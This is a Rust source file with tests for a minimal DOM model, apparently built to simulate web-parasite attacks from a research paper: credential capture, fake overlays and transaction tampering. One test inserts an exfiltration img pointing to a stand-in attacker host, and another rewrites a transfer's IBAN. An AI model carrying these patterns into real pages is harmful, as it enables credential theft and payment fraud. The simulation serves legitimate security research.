//! A minimal DOM model.
//!
//! Table V's attacks all boil down to what JavaScript can do with the DOM:
//! read input fields and page text (credential and data theft), hook form
//! submit events (login capture), insert elements (fake login overlays,
//! exfiltration `img` tags, propagation `iframe`s), and manipulate existing
//! content (transaction manipulation). The model therefore supports element
//! insertion/query/update, form fields, a submit-event log, and a flag
//! distinguishing script-inserted elements (so experiments can attribute DOM
//! changes to the parasite).

use mp_httpsim::url::Url;
use std::collections::BTreeMap;
use std::fmt;

/// Identifier of an element within one document.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct ElementId(pub u64);

/// A DOM element.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Element {
    /// Identifier.
    pub id: ElementId,
    /// Tag name, lowercase (`input`, `form`, `img`, `iframe`, `script`, ...).
    pub tag: String,
    /// Attributes.
    pub attrs: BTreeMap<String, String>,
    /// Text content.
    pub text: String,
    /// Parent form for input elements, if any.
    pub form: Option<ElementId>,
    /// `true` if a script (rather than the original markup) inserted it.
    pub inserted_by_script: bool,
}

impl Element {
    /// Reads an attribute.
    pub fn attr(&self, name: &str) -> Option<&str> {
        self.attrs.get(name).map(String::as_str)
    }

    /// Returns the `value` attribute (input fields).
    pub fn value(&self) -> &str {
        self.attr("value").unwrap_or("")
    }

    /// Returns the `name` attribute.
    pub fn name(&self) -> &str {
        self.attr("name").unwrap_or("")
    }
}

/// A recorded form submission (the payload a submit-event hook sees).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FormSubmission {
    /// The form element.
    pub form: ElementId,
    /// The form's `action` URL, if any.
    pub action: Option<String>,
    /// Field name → value at the time of submission.
    pub fields: BTreeMap<String, String>,
    /// Sequence number (monotone per document).
    pub sequence: u64,
}

/// A single document's DOM.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Dom {
    /// The document URL.
    pub url: Url,
    elements: Vec<Element>,
    submissions: Vec<FormSubmission>,
    next_id: u64,
    next_submission: u64,
}

impl fmt::Display for Dom {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "Dom({}, {} elements)", self.url, self.elements.len())
    }
}

impl Dom {
    /// Creates an empty document for `url`.
    pub fn new(url: Url) -> Self {
        Dom {
            url,
            elements: Vec::new(),
            submissions: Vec::new(),
            next_id: 1,
            next_submission: 1,
        }
    }

    fn insert(&mut self, tag: &str, attrs: &[(&str, &str)], text: &str, by_script: bool) -> ElementId {
        let id = ElementId(self.next_id);
        self.next_id += 1;
        self.elements.push(Element {
            id,
            tag: tag.to_ascii_lowercase(),
            attrs: attrs
                .iter()
                .map(|(k, v)| (k.to_ascii_lowercase(), v.to_string()))
                .collect(),
            text: text.to_string(),
            form: None,
            inserted_by_script: by_script,
        });
        id
    }

    /// Adds an element that was part of the original markup.
    pub fn add_markup_element(&mut self, tag: &str, attrs: &[(&str, &str)], text: &str) -> ElementId {
        self.insert(tag, attrs, text, false)
    }

    /// Adds an element inserted by a script (`document.createElement` +
    /// `appendChild`), e.g. the parasite's exfiltration `img` or propagation
    /// `iframe`.
    pub fn add_script_element(&mut self, tag: &str, attrs: &[(&str, &str)], text: &str) -> ElementId {
        self.insert(tag, attrs, text, true)
    }

    /// Adds an input field belonging to `form`.
    pub fn add_input(&mut self, form: ElementId, name: &str, input_type: &str, value: &str) -> ElementId {
        let id = self.insert("input", &[("name", name), ("type", input_type), ("value", value)], "", false);
        if let Some(element) = self.element_mut(id) {
            element.form = Some(form);
        }
        id
    }

    /// Looks up an element.
    pub fn element(&self, id: ElementId) -> Option<&Element> {
        self.elements.iter().find(|e| e.id == id)
    }

    /// Looks up an element mutably.
    pub fn element_mut(&mut self, id: ElementId) -> Option<&mut Element> {
        self.elements.iter_mut().find(|e| e.id == id)
    }

    /// First element whose `name` attribute matches.
    pub fn by_name(&self, name: &str) -> Option<&Element> {
        self.elements.iter().find(|e| e.name() == name)
    }

    /// All elements (reading the whole DOM, as the parasite does).
    pub fn all(&self) -> &[Element] {
        &self.elements
    }

    /// Concatenated visible text of the document — "read the financial status
    /// / email communication from the DOM".
    pub fn visible_text(&self) -> String {
        self.elements
            .iter()
            .filter(|e| !e.text.is_empty())
            .map(|e| e.text.as_str())
            .collect::<Vec<_>>()
            .join("\n")
    }

    /// Sets an attribute on an element (e.g. the user typing into a field, or
    /// a script rewriting a transfer's IBAN).
    pub fn set_attr(&mut self, id: ElementId, name: &str, value: &str) -> bool {
        match self.element_mut(id) {
            Some(element) => {
                element.attrs.insert(name.to_ascii_lowercase(), value.to_string());
                true
            }
            None => false,
        }
    }

    /// Removes an element, returning `true` if it existed.
    pub fn remove(&mut self, id: ElementId) -> bool {
        let before = self.elements.len();
        self.elements.retain(|e| e.id != id);
        before != self.elements.len()
    }

    /// Fields of a form: name → value for all inputs attached to it.
    pub fn form_fields(&self, form: ElementId) -> BTreeMap<String, String> {
        self.elements
            .iter()
            .filter(|e| e.form == Some(form) && e.tag == "input")
            .map(|e| (e.name().to_string(), e.value().to_string()))
            .collect()
    }

    /// Submits a form: snapshots its fields into the submission log (which is
    /// what a hooked submit listener observes) and returns the submission.
    pub fn submit_form(&mut self, form: ElementId) -> Option<FormSubmission> {
        let action = self.element(form)?.attr("action").map(str::to_string);
        let fields = self.form_fields(form);
        let submission = FormSubmission {
            form,
            action,
            fields,
            sequence: self.next_submission,
        };
        self.next_submission += 1;
        self.submissions.push(submission.clone());
        Some(submission)
    }

    /// The submit-event log (everything a submit hook has seen so far).
    pub fn submissions(&self) -> &[FormSubmission] {
        &self.submissions
    }

    /// Elements inserted by scripts — used by experiments to detect parasite
    /// tampering (fake overlays, exfiltration tags, injected ads).
    pub fn script_inserted(&self) -> Vec<&Element> {
        self.elements.iter().filter(|e| e.inserted_by_script).collect()
    }

    /// Number of elements.
    pub fn len(&self) -> usize {
        self.elements.len()
    }

    /// Returns `true` if the document has no elements.
    pub fn is_empty(&self) -> bool {
        self.elements.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn url(s: &str) -> Url {
        Url::parse(s).unwrap()
    }

    fn login_page() -> (Dom, ElementId) {
        let mut dom = Dom::new(url("https://bank.example/login"));
        let form = dom.add_markup_element("form", &[("action", "/do-login"), ("id", "login")], "");
        dom.add_input(form, "username", "text", "");
        dom.add_input(form, "password", "password", "");
        (dom, form)
    }

    fn count_tag(dom: &Dom, tag: &str) -> usize {
        dom.all().iter().filter(|e| e.tag == tag).count()
    }

    #[test]
    fn build_and_query_elements() {
        let (dom, _form) = login_page();
        assert_eq!(count_tag(&dom, "input"), 2);
        assert_eq!(count_tag(&dom, "form"), 1);
        assert!(dom.by_name("password").is_some());
        assert!(dom.by_name("otp").is_none());
        assert_eq!(dom.len(), 3);
    }

    #[test]
    fn typing_and_submitting_records_field_values() {
        let (mut dom, form) = login_page();
        let user = dom.by_name("username").unwrap().id;
        let pass = dom.by_name("password").unwrap().id;
        dom.set_attr(user, "value", "alice");
        dom.set_attr(pass, "value", "hunter2");
        let submission = dom.submit_form(form).unwrap();
        assert_eq!(submission.fields.get("username").unwrap(), "alice");
        assert_eq!(submission.fields.get("password").unwrap(), "hunter2");
        assert_eq!(submission.action.as_deref(), Some("/do-login"));
        assert_eq!(dom.submissions().len(), 1);
    }

    #[test]
    fn script_inserted_elements_are_attributable() {
        let (mut dom, form) = login_page();
        dom.add_script_element("img", &[("src", "http://attacker.example/exfil?d=abc")], "");
        dom.add_script_element("iframe", &[("src", "https://bank.example/")], "");
        let inserted = dom.script_inserted();
        assert_eq!(inserted.len(), 2);
        assert!(inserted.iter().any(|e| e.tag == "img"));
        assert!(inserted.iter().any(|e| e.tag == "iframe"));
        // Original markup is not flagged.
        assert!(!dom.element(form).unwrap().inserted_by_script);
    }

    #[test]
    fn dom_manipulation_changes_visible_content() {
        let mut dom = Dom::new(url("https://bank.example/transfer"));
        dom.add_markup_element("div", &[("id", "balance")], "Balance: 12,345.67 EUR");
        let iban = dom.add_markup_element("input", &[("name", "iban"), ("value", "DE89 3704 0044 0532 0130 00")], "");
        assert!(dom.visible_text().contains("12,345.67"));
        // Transaction manipulation: the parasite rewrites the beneficiary.
        dom.set_attr(iban, "value", "GB29 ATTACKER 0000 0000 0000 00");
        assert_eq!(dom.by_name("iban").unwrap().value(), "GB29 ATTACKER 0000 0000 0000 00");
    }

    #[test]
    fn remove_deletes_the_element() {
        let (mut dom, form) = login_page();
        assert!(dom.remove(form));
        assert!(!dom.remove(form));
        assert_eq!(count_tag(&dom, "form"), 0);
    }

    #[test]
    fn form_fields_only_include_that_forms_inputs() {
        let mut dom = Dom::new(url("https://shop.example/checkout"));
        let f1 = dom.add_markup_element("form", &[("id", "a")], "");
        let f2 = dom.add_markup_element("form", &[("id", "b")], "");
        dom.add_input(f1, "card", "text", "4111");
        dom.add_input(f2, "search", "text", "shoes");
        assert_eq!(dom.form_fields(f1).len(), 1);
        assert!(dom.form_fields(f1).contains_key("card"));
        assert!(!dom.form_fields(f1).contains_key("search"));
    }
}
